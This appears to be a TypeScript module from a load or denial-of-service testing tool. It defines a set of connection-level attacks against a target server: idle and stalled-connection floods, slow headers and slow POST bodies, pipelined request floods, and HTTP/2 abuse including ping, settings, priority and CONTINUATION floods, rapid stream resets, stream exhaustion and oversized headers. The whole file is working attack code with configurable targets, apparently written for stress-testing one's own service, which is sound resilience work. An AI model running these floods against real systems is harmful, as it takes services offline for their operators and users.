// Floods of connections, streams, frames and headers. The attacker does not have to know the API.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { count, flood, shooting } from '../client.ts';
import { openSession } from '../grpc.ts';

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const settings = '\0\0\0\x04\0\0\0\0\0';

function dial(target: Target): Socket {
  const socket = connect(target.port, target.host);
  return socket.on('error', () => count('cut')).resume();
}

/** Resolves when the signal is aborted. */
async function aborted(signal: AbortSignal): Promise<void> {
  if (!signal.aborted) await once(signal, 'abort');
}

/** Opens connections that send `text` at once, and `go` every 200 ms. */
function connecting(name: string, connections: number, text: string, go = ''): Attack {
  return {
    name,
    door: 'port',
    prepare: async (target) => async (signal) => {
      const sockets = new Set<Socket>();
      const add = (): void => {
        const socket = dial(target);
        sockets.add(socket);
        if (text !== '') socket.write(text, 'latin1');
        socket.once('close', () => sockets.delete(socket));
      };
      const fill = setInterval(() => {
        for (let i = 0; i < 100 && sockets.size < connections; i += 1) add();
      }, 20);
      const trickle = setInterval(() => {
        if (go !== '')
          for (const socket of sockets) if (socket.writable) socket.write(go, 'latin1');
      }, 200);
      await aborted(signal);
      clearInterval(fill);
      clearInterval(trickle);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Sends the same bytes over a few connections, as fast as the server reads them. */
function streaming(name: string, connections: number, head: string, part: string): Attack {
  return {
    name,
    door: 'port',
    prepare: async (target) => async (signal) => {
      const block = Buffer.from(
        part.repeat(Math.max(1, Math.ceil(65_536 / part.length))),
        'latin1',
      );
      await flood(signal, connections, async () => {
        const socket = dial(target);
        const end = (): void => void socket.destroy();
        signal.addEventListener('abort', end, { once: true });
        socket.write(head, 'latin1');
        while (!signal.aborted && socket.writable) {
          if (!socket.write(block)) {
            await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(
              () => undefined,
            );
          }
        }
        socket.destroy();
        signal.removeEventListener('abort', end);
        count('connection');
      });
    },
  };
}

const makeFrame = (type: number, flags: number, stream: number, payload: string): string => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return head.toString('latin1') + payload;
};

export const connectionAttacks: readonly Attack[] = [
  connecting('idle-connections', 4_500, '', ''),
  connecting('stalled-requests', 3_000, 'GET / HTTP/1.1\r\nHost: x\r\n'),
  connecting(
    'slow-writers',
    2_000,
    'POST /api/profiles/writeraw HTTP/1.1\r\nHost: x\r\nContent-Length: 60000000\r\n\r\n',
    'x'.repeat(40),
  ),
  connecting('slow-headers', 2_000, 'GET / HTTP/1.1\r\nHost: x\r\n', 'a: b\r\n'),
  connecting('idle-http2', 3_000, preface + settings),
  streaming('pipelined-requests', 8, '', 'GET /-/healthy HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'),
  streaming('pipelined-not-found', 8, '', 'GET /a/b/c/d HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'),
  streaming('http2-pings', 8, preface + settings, makeFrame(6, 0, 0, '12345678')),
  streaming('http2-settings', 8, preface + settings, settings),
  streaming('http2-priorities', 8, preface + settings, makeFrame(2, 0, 1, '\0\0\0\0\x10')),
  streaming(
    'http2-continuations',
    8,
    preface + settings + makeFrame(1, 0, 1, '\x83'),
    makeFrame(9, 0, 1, '\0\x01a\x01b'.repeat(50)),
  ),
  {
    name: 'http2-resets',
    door: 'port',
    prepare: async (target) => (signal) =>
      flood(signal, 8, async () => {
        const socket = dial(target);
        let text = preface + settings;
        for (let i = 0; i < 2_000; i += 1) {
          const stream = 2 * i + 1;
          text += makeFrame(1, 4, stream, '\x83\x86\x84') + makeFrame(3, 0, stream, '\0\0\0\x08');
        }
        socket.write(text, 'latin1');
        const timer = setTimeout(() => socket.destroy(), 1_000);
        await once(socket, 'close').catch(() => undefined);
        clearTimeout(timer);
        count('connection');
      }),
  },
  {
    name: 'http2-streams',
    door: 'port',
    prepare: async (target) => (signal) =>
      flood(signal, 10, async () => {
        const session = openSession(target);
        for (let i = 0; i < 1_000; i += 1) {
          const stream = session.request({ ':path': '/-/ready', ':method': 'POST' });
          stream.on('error', () => undefined).resume();
          stream.write('x');
        }
        await new Promise((resolve) => {
          setTimeout(resolve, 2_000);
          signal.addEventListener('abort', resolve, { once: true });
        });
        session.destroy();
      }),
  },
  {
    name: 'large-headers',
    door: 'port',
    prepare: async (target) =>
      shooting(target, 64, (i) => ({ path: `/${i}`, headers: { 'x-long': 'h'.repeat(15_000) } })),
  },
  {
    name: 'distinct-paths',
    door: 'port',
    prepare: async (target) => shooting(target, 64, (i) => ({ path: `/p${i}/q?r=${i}` })),
  },
];
